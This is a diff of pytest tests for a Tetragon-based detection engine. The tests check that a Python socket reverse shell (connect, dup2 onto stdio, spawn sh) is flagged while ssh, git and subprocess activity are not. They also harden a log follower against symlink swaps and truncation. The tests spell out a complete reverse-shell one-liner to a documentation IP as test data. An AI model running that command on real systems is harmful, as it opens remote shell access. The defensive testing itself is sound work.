@@ -12,6 +12,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from structlog.testing import capture_logs
 
 from stockade.authz import Authorizer
 from stockade.core.errors import InvalidInput
@@ -22,7 +23,14 @@ from stockade.worktrace._events import MAX_LINE_BYTES
 from stockade.worktrace._ingest import FileFollower
 from stockade.worktrace._respond import AlertResponder
 
-from .conftest import WORKSPACE_LABELS, exec_event, kprobe_event, line
+from .conftest import (
+    WORKSPACE_LABELS,
+    exec_event,
+    kprobe_event,
+    line,
+    parent_process,
+    process,
+)
 
 
 @pytest.fixture(scope="module")
@@ -142,22 +150,147 @@ def test_bash_dev_tcp_reverse_shell_held(engine_rules: Any) -> None:
     assert "reverse-shell-connect" in rule_ids(fresh(engine_rules), probe)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="open: no rule ties a shell to a socket an interpreter dup2()ed onto its stdio",
-)
-def test_python_socket_reverse_shell_broke(engine_rules: Any) -> None:
-    """BROKE: python -c 'socket...; os.dup2(s.fileno(), 0..2); pty.spawn("sh")' connects
-    from python3 (not a shell) and then execs a shell: nothing fires."""
+NODE = "node-1"
+
+
+def at(event: dict[str, Any], pid: int, parent_pid: int | None = None) -> dict[str, Any]:
+    """``event`` of process ``pid`` (whose parent is ``parent_pid``), as Tetragon keys them."""
+    body = event[next(k for k in event if k.startswith("process_"))]
+    body["process"]["pid"] = pid
+    if parent_pid is not None:
+        body["parent"]["pid"] = parent_pid
+    return event
+
+
+def dup(oldfd: int, newfd: int, *, binary: str, call: str = "__x64_sys_dup2") -> dict[str, Any]:
+    """A ``dup2``/``dup3`` kprobe as the generated policy asks for it (``oldfd``, ``newfd``)."""
+    args: list[dict[str, Any]] = [{"int_arg": oldfd}, {"int_arg": newfd}]
+    return kprobe_event(call, args, binary=binary)
+
+
+def exit_event(binary: str, pid: int) -> dict[str, Any]:
+    body = {"process": process(binary), "parent": parent_process(), "time": "2026-12-01T10:00:02Z"}
+    return at({"process_exit": body, "node_name": NODE}, pid)
+
+
+def connect(binary: str, daddr: str = "203.0.113.9", dport: int = 4444) -> dict[str, Any]:
+    return kprobe_event("tcp_connect", [sock(daddr, dport)], binary=binary)
+
+
+def fired_over(engine_rules: Any, events: list[dict[str, Any]]) -> list[set[str]]:
+    """The rule ids each event of a sequence fired, fed in order to one engine."""
     engine = fresh(engine_rules)
+    return [rule_ids(engine, event) for event in events]
+
+
+def python_reverse_shell(call: str = "__x64_sys_dup2") -> list[dict[str, Any]]:
+    """python -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.9",4444));
+    [os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")' as Tetragon reports it: the
+    exec of python3, its tcp_connect, its three dup2 of fd 3 and pty.spawn's child exec of sh."""
+    py = "/usr/bin/python3"
     code = "import socket,os,pty;s=socket.socket();s.connect(('203.0.113.9',4444));"
     code += "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn('sh')"
-    fired = rule_ids(engine, exec_event("/usr/bin/python3", f"-c {code}"))
-    fired |= rule_ids(
-        engine, kprobe_event("tcp_connect", [sock("203.0.113.9", 4444)], binary="/usr/bin/python3")
-    )
-    fired |= rule_ids(engine, exec_event("/bin/sh"))
-    assert fired & {"reverse-shell-connect", "reverse-shell-netcat"}
+    return [
+        at(exec_event(py, f"-c {code}"), 4242),
+        at(connect(py), 4242),
+        *(at(dup(3, fd, binary=py, call=call), 4242) for fd in (0, 1, 2)),
+        at(exec_event("/bin/sh"), 4243, parent_pid=4242),
+    ]
+
+
+def test_python_socket_reverse_shell_broke(engine_rules: Any) -> None:
+    """Was BROKE: python connects (not a shell), dup2()s the socket onto its stdio, then
+    pty.spawn runs a shell: nothing fired. The shell's exec now fires, and only it."""
+    fired = fired_over(engine_rules, python_reverse_shell())
+    assert fired[-1] == {"reverse-shell-stdio"}
+    assert not set().union(*fired[:-1])
+
+
+def test_python_reverse_shell_on_arm64_dup3_held(engine_rules: Any) -> None:
+    """arm64 has no dup2 syscall: Python's os.dup2 is a dup3 there."""
+    fired = fired_over(engine_rules, python_reverse_shell(call="__arm64_sys_dup3"))
+    assert fired[-1] == {"reverse-shell-stdio"}
+
+
+def test_reverse_shell_exec_without_fork_held(engine_rules: Any) -> None:
+    """``os.execv("/bin/sh", ...)`` after the dup2s: the shell is the same pid."""
+    py = "/usr/bin/python3"
+    events = [
+        at(connect(py), 5000),
+        at(dup(3, 0, binary=py), 5000),
+        at(exec_event("/bin/bash", "-i"), 5000),
+    ]
+    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
+
+
+def test_subprocess_shell_of_a_networked_program_is_benign(engine_rules: Any) -> None:
+    """pip/requests connects, then ``subprocess.run("sh -c ...", stdout=PIPE)``: the dup2s
+    of the pipes happen in the forked child, which connected nothing."""
+    py = "/usr/bin/python3"
+    events = [
+        at(connect(py, "151.101.0.223", 443), 6000),
+        at(dup(5, 0, binary=py), 6001, parent_pid=6000),  # the fork, before its exec
+        at(dup(7, 1, binary=py), 6001, parent_pid=6000),
+        at(exec_event("/bin/sh", "-c make"), 6001, parent_pid=6000),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+def test_ssh_session_is_benign(engine_rules: Any) -> None:
+    """An sshd session, even one forwarding a port out (``ssh -R``: sshd connects): the
+    session child puts the pty on its stdio and runs the login shell."""
+    sshd = "/usr/lib/openssh/sshd-session"
+    events = [
+        at(connect(sshd, "127.0.0.1", 8080), 7000),  # a remote forward's connection
+        at(dup(9, 0, binary=sshd), 7001, parent_pid=7000),
+        at(dup(9, 1, binary=sshd), 7001, parent_pid=7000),
+        at(dup(9, 2, binary=sshd), 7001, parent_pid=7000),
+        at(exec_event("/bin/bash", "-l"), 7001, parent_pid=7000),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+def test_git_fetch_over_ssh_is_benign(engine_rules: Any) -> None:
+    """git fetch: git's child wires pipes to ssh (GIT_SSH_COMMAND through sh -c), ssh
+    connects; afterwards git runs a hook shell. No process both connected and replaced its
+    own stdio before a shell ran."""
+    git = "/usr/bin/git"
+    events = [
+        at(exec_event(git, "fetch origin"), 8000),
+        at(dup(4, 0, binary=git), 8001, parent_pid=8000),
+        at(dup(7, 1, binary=git), 8001, parent_pid=8000),
+        at(exec_event("/bin/sh", "-c 'ssh -o BatchMode=yes git@forge'"), 8001, parent_pid=8000),
+        at(exec_event("/usr/bin/ssh", "-o BatchMode=yes git@forge"), 8001, parent_pid=8000),
+        at(connect("/usr/bin/ssh", "192.0.2.10", 22), 8001),
+        at(exec_event("/bin/sh", ".git/hooks/post-merge"), 8002, parent_pid=8000),
+        at(exec_event("/usr/lib/git-core/git-remote-https", "origin"), 8003, parent_pid=8000),
+        at(connect("/usr/lib/git-core/git-remote-https", "192.0.2.10", 443), 8003),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+def test_stdout_and_stderr_redirect_after_connect_is_benign(engine_rules: Any) -> None:
+    """A connected program that sends its stdout and stderr to a log (``dup2(fd, 1..2)``)."""
+    py = "/usr/bin/python3"
+    events = [at(connect(py), 9000), at(dup(4, 1, binary=py), 9000)]
+    events.append(at(dup(4, 2, binary=py), 9000))
+    events.append(at(exec_event("/bin/sh", "-c true"), 9001, parent_pid=9000))
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+def test_reused_pid_after_exit_is_not_a_reverse_shell(engine_rules: Any) -> None:
+    py = "/usr/bin/python3"
+    events = [at(connect(py), 4300), at(dup(3, 0, binary=py), 4300), exit_event(py, 4300)]
+    events.append(at(exec_event("/bin/sh"), 4300, parent_pid=1))  # a new process, same pid
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+def test_same_pid_on_another_node_is_not_a_reverse_shell(engine_rules: Any) -> None:
+    py = "/usr/bin/python3"
+    events = [at(connect(py), 4400), at(dup(3, 0, binary=py), 4400)]
+    other = at(exec_event("/bin/sh"), 4401, parent_pid=4400)
+    other["node_name"] = "node-2"
+    assert not set().union(*fired_over(engine_rules, [*events, other]))
 
 
 # --- correlation -------------------------------------------------------------------------
@@ -232,13 +365,16 @@ def test_long_binary_names_do_not_break_the_alert_event_broke(engine_rules: Any)
 # --- the followed file ------------------------------------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="open: the follower opens the export without O_NOFOLLOW (needs its directory)",
-)
+def _drain(follower: FileFollower, polls: int = 3) -> list[bytes]:
+    lines: list[bytes] = []
+    for _ in range(polls):
+        lines.extend(follower.poll())
+    return lines
+
+
 def test_symlink_swap_to_a_secret_file_is_not_read_broke(tmp_path: Path) -> None:
-    """BROKE (needs write access to the export's directory): a swap of the export for a
-    symlink to another file is followed into it (``os.open`` without ``O_NOFOLLOW``)."""
+    """Was BROKE (needs write access to the export's directory): a swap of the export for a
+    symlink to another file was followed into it (``os.open`` without ``O_NOFOLLOW``)."""
     export = tmp_path / "tetragon.log"
     export.write_bytes(b"")
     follower = FileFollower(export)
@@ -247,28 +383,92 @@ def test_symlink_swap_to_a_secret_file_is_not_read_broke(tmp_path: Path) -> None
     secret.write_bytes(b"root:$6$secret:19000:0:99999:7:::\n")
     export.unlink()
     os.symlink(secret, export)
-    lines: list[bytes] = []
-    for _ in range(3):
-        lines.extend(follower.poll())
+    with capture_logs() as logs:
+        lines = _drain(follower)
     assert not any(b"secret" in x for x in lines)
+    refusals = [e for e in logs if e["event"] == "worktrace.export_refused"]
+    assert len(refusals) == 1  # once, not once per poll
+    assert "symlink" in refusals[0]["reason"]
+    assert refusals[0]["path"] == str(export)
+    export.unlink()  # the real export comes back: followed again from its start
+    export.write_bytes(b"after\n")
+    assert _drain(follower) == [b"after"]
 
 
-@pytest.mark.xfail(
-    strict=True, reason="open: truncation is seen only when the file shrinks below the offset"
-)
-def test_truncate_and_rewrite_between_polls_broke(tmp_path: Path, engine_rules: Any) -> None:
-    """BROKE (the writer's doing, not the user's): a copytruncate followed by a longer write
-    before the next poll leaves the size above the offset, so the truncation goes unseen and
-    the new line is read from the old offset (lost)."""
+def test_export_that_is_a_symlink_from_the_start_is_not_read(tmp_path: Path) -> None:
+    secret = tmp_path / "shadow"
+    secret.write_bytes(b"root:$6$secret\n")
+    export = tmp_path / "tetragon.log"
+    os.symlink(secret, export)
+    follower = FileFollower(export)
+    assert _drain(follower) == []
+    assert follower.refused == 3
+
+
+def test_export_that_is_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
+    """A FIFO would block the open (no writer) or feed whatever a writer sends: refused."""
+    export = tmp_path / "tetragon.log"
+    os.mkfifo(export)
+    follower = FileFollower(export)
+    with capture_logs() as logs:
+        assert _drain(follower) == []
+    (refusal,) = [e for e in logs if e["event"] == "worktrace.export_refused"]
+    assert "FIFO" in refusal["reason"]
+
+
+def test_symlinked_rotated_file_is_not_drained(tmp_path: Path) -> None:
+    """A ``tetragon-<time>.log`` symlink planted beside the export is not taken for a rotated
+    file the follower missed (which it reads whole)."""
+    export = tmp_path / "tetragon.log"
+    export.write_bytes(b"one\n")
+    follower = FileFollower(export)
+    assert follower.poll() == [b"one"]
+    secret = tmp_path / "shadow"
+    secret.write_bytes(b"root:$6$secret\n")
+    os.symlink(secret, tmp_path / "tetragon-2026-12-01T10-00-00.000.log")
+    export.rename(tmp_path / "tetragon-2026-12-01T10-00-01.000.log")
+    export.write_bytes(b"two\n")
+    lines = _drain(follower)
+    assert lines == [b"two"]
+
+
+def test_truncate_and_rewrite_between_polls_broke(tmp_path: Path) -> None:
+    """Was BROKE (the writer's doing, not the user's): a copytruncate followed by a longer
+    write before the next poll left the size above the offset, so the truncation went unseen
+    and the new line was read from the old offset (lost)."""
     export = tmp_path / "tetragon.log"
     export.write_bytes(b"")
     follower = FileFollower(export)
     follower.poll()
+    first = line(exec_event("/usr/bin/true"))
     with export.open("ab") as out:
-        out.write(line(exec_event("/usr/bin/true")) + b"\n")
-    assert len(follower.poll()) == 1
-    export.write_bytes(line(exec_event("/usr/bin/false")) + b"\n")  # truncated and rewritten
-    assert len(follower.poll()) == 1
+        out.write(first + b"\n")
+    assert follower.poll() == [first]
+    rewritten = [line(exec_event("/usr/bin/false")), line(exec_event("/usr/bin/env"))]
+    assert len(rewritten[0]) > len(first)
+    with export.open("r+b") as out:  # copytruncate: the same inode, emptied, written again
+        out.truncate(0)
+        out.write(b"".join(x + b"\n" for x in rewritten))
+    assert _drain(follower) == rewritten  # each seen once: none lost, none duplicated
+    assert follower.truncations == 1
+
+
+def test_truncate_and_rewrite_a_long_file_between_polls(tmp_path: Path) -> None:
+    """The same past the fingerprint's first bytes: the bytes before the offset are checked."""
+    export = tmp_path / "tetragon.log"
+    before = [b"%05d" % n + b"x" * 200 for n in range(50)]
+    export.write_bytes(b"".join(x + b"\n" for x in before))
+    follower = FileFollower(export)
+    assert follower.poll() == before
+    after = [b"%05d" % n + b"y" * 200 for n in range(80)]
+    with export.open("r+b") as out:
+        out.truncate(0)
+        out.write(b"".join(x + b"\n" for x in after))
+    assert _drain(follower) == after
+    with export.open("ab") as out:  # plain appends afterwards are read once, from the offset
+        out.write(b"tail\n")
+    assert _drain(follower) == [b"tail"]
+    assert follower.truncations == 1
 
 
 # --- rules YAML ------------------------------------------------------------------------
